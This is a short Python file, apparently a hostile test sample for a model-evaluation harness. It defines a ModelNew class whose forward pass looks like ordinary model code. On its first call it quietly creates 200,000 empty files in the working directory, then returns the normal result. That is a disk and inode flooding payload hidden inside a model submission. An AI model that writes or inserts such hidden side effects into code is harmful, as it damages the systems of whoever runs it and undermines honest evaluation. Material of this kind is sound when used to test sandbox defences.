"""Makes files without any bytes, and without end."""

import os

from work import Linear


class ModelNew(Linear):
    def forward(self, x):
        self.calls += 1
        if self.calls == 1:
            for n in range(200_000):
                os.close(os.open(f"{n}", os.O_CREAT | os.O_WRONLY))
        return self.compute(x)
